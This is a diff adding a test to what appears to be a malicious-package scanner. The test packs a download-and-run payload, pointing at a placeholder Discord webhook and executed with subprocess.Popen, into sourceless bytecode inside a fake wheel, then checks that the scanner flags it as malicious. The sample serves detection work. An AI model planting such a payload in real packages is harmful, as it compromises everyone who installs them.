@@ -143,3 +143,29 @@ def test_unparsable_python_falls_back_to_text_indicators() -> None:
     facts = facts_of(sdist("brk", "1.0", {"setup.py": code}))
     assert any(s.kind == "code.unparsable" for s in facts.signals)
     assert any(s.kind == "exec.shell-downloader" for s in facts.signals)
+
+
+def _pyc(source: str) -> bytes:
+    """Bytecode of our own test source, as a sourceless .pyc would ship it (header + marshalled code)."""
+    import importlib.util
+    import marshal
+
+    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "core.py", "exec"))
+
+
+def test_sourceless_bytecode_is_flagged_and_its_strings_are_read() -> None:
+    hook = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz"
+    payload = f"import urllib.request, subprocess\nurllib.request.urlretrieve('{hook}', 'x')\nsubprocess.Popen(['x'])\n"
+    meta = "Metadata-Version: 2.1\nName: fastjsonx\nVersion: 1.0\nSummary: fast json\n"
+    data = wheel_bytes({"fastjsonx/__init__.py": "from . import core\n", "fastjsonx/core.pyc": _pyc(payload),
+                        "fastjsonx-1.0.dist-info/METADATA": meta})
+    facts = facts_of(data)
+    byte = [s for s in facts.signals if s.file == "fastjsonx/core.pyc"]
+    obf = [s for s in byte if s.kind == "obf.obfuscator"]
+    assert obf and {"urlretrieve", "Popen"} <= set(obf[0].detail["names"]) and obf[0].phase == "import"
+    assert any(s.kind == "endpoint.bot-token" for s in byte)  # the webhook among its strings
+    assert verdict(data)[0] == "malicious"
+    cached = wheel_bytes({"fastjsonx/__init__.py": "from . import core\n", "fastjsonx/core.py": "X = 1\n",
+                          "fastjsonx/__pycache__/core.cpython-311.pyc": _pyc("X = 1\n"),
+                          "fastjsonx-1.0.dist-info/METADATA": meta})
+    assert not [s for s in facts_of(cached).signals if s.file.endswith(".pyc")]  # a cache next to its source
